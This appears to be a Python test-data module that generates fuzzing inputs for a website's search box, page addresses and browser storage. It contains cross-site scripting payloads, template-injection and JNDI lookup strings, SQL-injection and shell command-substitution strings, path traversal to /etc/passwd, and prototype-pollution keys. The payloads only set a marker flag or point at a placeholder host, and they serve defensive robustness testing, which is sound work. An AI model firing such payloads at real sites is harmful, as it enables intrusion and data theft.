"""What an attacker, a broken link or a cat on the keyboard gives to the search box, the address line and the store.

Each family is a list of texts, made the same in every run. Markup that runs sets ``window.ran`` or opens a dialog.
"""

from itertools import product

RUN = "window.ran=1;alert(1)"
TAGS = "img svg video audio iframe object embed details input select form button body marquee a math style link".split()
EVENTS = "onerror onload onfocus ontoggle onstart onclick onbegin onpointerenter onanimationstart oncanplay".split()
OPERATORS = "+-~^:*"
KNOWN = "eyelid веко magnesium магний".split()
# Signs that are not seen, or that change the direction or the form of others.
HIDDEN = [
    *map(chr, [0, 8, 9, 10, 13, 27, 0x7F, 0x85, 0xA0, 0xAD, 0x61C, *range(0x2000, 0x2010), *range(0x2028, 0x2030)]),
    *map(chr, [*range(0x2060, 0x206A), 0x3000, 0xFE0F, 0xFEFF, 0xFFF9, 0xFFFD, 0xFFFE, 0xFFFF]),
    *map(chr, [0xE0001, 0xE0065, 0xF0000, 0x10FFFF]),
]
SURROGATES = ["\ud800", "\udfff", "\udc00\ud800", "a\ud83d", "\ude00a", "\ud83d\ud83d\ude00"]
SCRIPTS = """
    İstanbul ıI ſtreß ﬁ ǅ Σςσ ẞ мышца\u0301 e\u0301yelid й\u0306 ё\u0308 ӂ שלום مرحبا ไทย 中文字 日本語テキスト 한국어 नमस्ते
    👩\u200d👩\u200d👧\u200d👦 🇷🇺🇬🇧 👍🏽 Z\u0337\u0353a\u0334\u031fl\u0336\u034eg\u0335\u0348o\u0336\u035b ａｂｃ 𝖊𝖞𝖊𝖑𝖎𝖉 Ⓔ
""".split()
NAMES = """
    __proto__ constructor prototype hasOwnProperty toString valueOf __defineGetter__ __lookupSetter__ isPrototypeOf
    toLocaleString propertyIsEnumerable length name caller arguments then window document location self globalThis
    NAMES lunr stems postMessage importScripts undefined null NaN Infinity true false this eval Function
    Symbol.iterator
""".split()
NUMBERS = """
    0 -0 -1 1e308 1e309 -1e309 9007199254740993 2147483648 -2147483649 4294967296 18446744073709551616 0x7fffffff 0b1
    0o7 1_000 .5 5. 1,5 1/0 ١٢٣ ٠ ½ Ⅷ ² NaN Infinity -Infinity 1e-400 00000000000000000001
""".split()
TEMPLATES = r"""
    {{7*7}} ${7*7} #{7*7} <%=7*7%> {%import%} [[7*7]] *{7*7} @(7*7) ~{x} ${{<%[%'"}}%\
    {{constructor.constructor('RUN')()}} ${`RUN`} `${RUN}` {{$on.constructor('RUN')()}} {{_self.env}} {{config}}
    {php}RUN{/php} ${jndi:ldap://outside.invalid/a}
""".split()
EXPRESSIONS = r"""
    ( ) [ ] { } \ | . ? $ ^ (? (?= (?! (?<= (?<a> [^ [z-a] {1,0} {99999} (a+)+$ (a|aa)+$ (.*)*x ([a-z]+)*1 \1 \k<a>
    \p{L} \u{110000} \x \c \b \B \0 $& $` $' $1 $$ $<a> a|b .* .+ ^$ (?:) (?i) /a/g \\ \/ [\s\S]* ((((((((((
    ))))))))))
""".split()
SHELL = r"""
    ' " ` '; ";-- '||' ' OR 1=1-- ; | & && > < ../../etc/passwd ..\..\windows $(id) `id` %0d%0aSet-Cookie:a=b
    file:///etc/passwd //outside.invalid /\outside.invalid http://outside.invalid/ https://outside.invalid@host
    ftp://outside.invalid ws://outside.invalid
""".split()
SCRIPT = f"<script>{RUN}</script>"
MARKUP = f"""
<ScRiPt>{RUN}</sCrIpT>
<svg>{SCRIPT}
<img src=javascript:{RUN}>
<a href=javascript:{RUN}>x</a>
<iframe srcdoc='{SCRIPT}'>
<base href=//outside.invalid/>
<meta http-equiv=refresh content='0;url=//outside.invalid'>
<link rel=stylesheet href=//outside.invalid>
<img src=//outside.invalid/a.png>
<style>*{{display:none}}</style>
<form action=//outside.invalid><input>
">{SCRIPT}
'>{SCRIPT}
</mark>{SCRIPT}
</script>{SCRIPT}
</title>{SCRIPT}
-->{SCRIPT}
]]>{SCRIPT}
</textarea>{SCRIPT}
</style>{SCRIPT}
javascript:{RUN}
data:text/html,{SCRIPT}
vbscript:{RUN}
eyelid {SCRIPT} веко
""".strip().splitlines()
AROUND = r"""
    +{0} -{0} *{0} {0}* *{0}* {0}~ {0}~1 {0}~99 {0}~-1 {0}^ {0}^0 {0}^-1 {0}^1e999 {0}^x title:{0} text:{0} nofield:{0}
    :{0} {0}: __proto__:{0} +{0}+-{0} {0}+ **{0}** title:text:{0} "{0} "{0}" \{0}
""".split()
BYTES = """
    % %% %0 %zz %00 %ff %c0%ae %e0%80%af %ed%a0%80 %f5%80%80%80 %EF%BB%BF %E2%80%AE %0a %0d%0a %26 %23 %3f
""".split()


def markup():
    """Elements that run a script: alone, out of an attribute or a text, and with each sign as its code."""
    handlers = [f"<{tag} src=x href=x {event}={RUN}>" for tag, event in product(TAGS, EVENTS)]
    return [*handlers, SCRIPT, *MARKUP, *("".join(f"&#{ord(sign)};" for sign in text) for text in MARKUP[:3])]


def operators():
    """The search library's own signs: up to three in a row, and around words that are found."""
    rows = ["".join(row) for length in (1, 2, 3) for row in product(OPERATORS, repeat=length)]
    between = [f"eyelid{row}веко" for row in rows if len(row) < 3]
    return rows + between + [form.format(word) for form, word in product(AROUND, KNOWN)]


def encoded():
    """One payload under every coding, once, twice and three times, and bytes that are no text."""
    payload = f"<img src=x onerror={RUN}>"
    once = "".join(f"%{byte:02x}" for byte in payload.encode())
    signs = ["&lt;", "\\u003c", "\\x3c", "＜", "%u003c", "+ADw-"]
    return [
        once,
        once.replace("%", "%25"),
        once.replace("%", "%2525"),
        *(payload.replace("<", s) for s in signs),
        *BYTES,
    ]


def unseen():
    return [*HIDDEN, *(f"eye{sign}lid ве{sign}ко" for sign in HIDDEN), *SURROGATES, *SCRIPTS]


def long():
    """Thousands of signs or words at once."""
    pieces = 'a й é 🙂 + * ~ " <b> \u0301 \u202e %3C ../ &amp;'.split() + ["aa ", "eyelid ", "веко ", "abcde "]
    unknown = [
        " ".join(f"{start}{at}{end}" for at in range(1500)) for start, end in (("", "x"), ("кж", "щ"), ("tw", ""))
    ]
    return [piece * 4000 for piece in pieces] + unknown


FAMILIES = {
    "markup and handlers": markup(),
    "search operators": operators(),
    "unicode": unseen(),
    "templates": [text.replace("RUN", RUN) for text in TEMPLATES],
    "regular expressions": EXPRESSIONS,
    "names of the language": NAMES + [f"{name}:eyelid" for name in NAMES],
    "numbers": NUMBERS + [f"eyelid^{number} веко~{number}" for number in NUMBERS],
    "codings": encoded(),
    "quotes, shells and addresses": SHELL,
    "very long": long(),
}
# Addresses where no page is.
PATHS = (
    r"""
    ../ ..%2f..%2fetc%2fpasswd %2e%2e/%2e%2e/ ..%5c..%5c ....// %252e%252e%252f %00.html a%00b %ff%fe %E2%80%AE
    %3Cscript%3Ewindow.ran=1%3C/script%3E %22onload=window.ran=1%20x=%22 javascript:window.ran=1 //outside.invalid/
    %2f%2foutside.invalid \\outside.invalid index.html/../../ ru/ru/ru/ nul con.html
    ?????????????????????????????????????????????????? %3f%23 ;a=b causes.html%20 CAUSES.HTML каузы.html 👍 __proto__
    constructor 404.html/x search/ assets/../../ {{7*7}} ${7*7} %7B%7B7*7%7D%7D * ' %27%3E%3Csvg -1
""".split()
    + ["a" * 3000]
)
# What another site at the same address, or an older version of this one, may have left in the store, one a line.
STORED = (
    r"""
{
null
[]
0
"x"
{}
true
[[[[[[
{"index":99,"color":{}}
{"index":"x","color":{}}
{"index":"length","color":{"a":"b"}}
{"index":0,"color":{"x y":"1"}}
{"index":0,"color":{"<":"1"}}
{"index":0,"color":null}
{"index":0,"color":[1]}
{"index":-1,"color":{"media":"(prefers-color-scheme)"}}
{"index":1,"color":{"media":1,"scheme":"<img>"}}
{"index":0.5,"color":{"scheme":"slate"}}
{"index":1e999,"color":{"scheme":"slate"}}
{"index":2,"color":{"media":"<script>","scheme":"slate\"><script>","primary":"x","accent":"y"}}
{"index":2,"color":{"scheme":"x","onclick":"alert(1)"}}
{"color":"abc"}
{"__proto__":{"index":0,"color":{"scheme":"slate"}}}
{"index":0,"color":{"__proto__":"x"}}
{"index":1,"color":{"media":"(prefers-color-scheme)","scheme":"default"}}
{"length":99999}
{"0":"<script>"}
undefined
NaN
<svg onload=alert(1)>
["<img src=x onerror=window.ran=1>", {"a": 1}, null, 1]
""".strip().splitlines()
    + ["", "\0", "\ud800", '["' + "й" * 9000 + '"]']
)
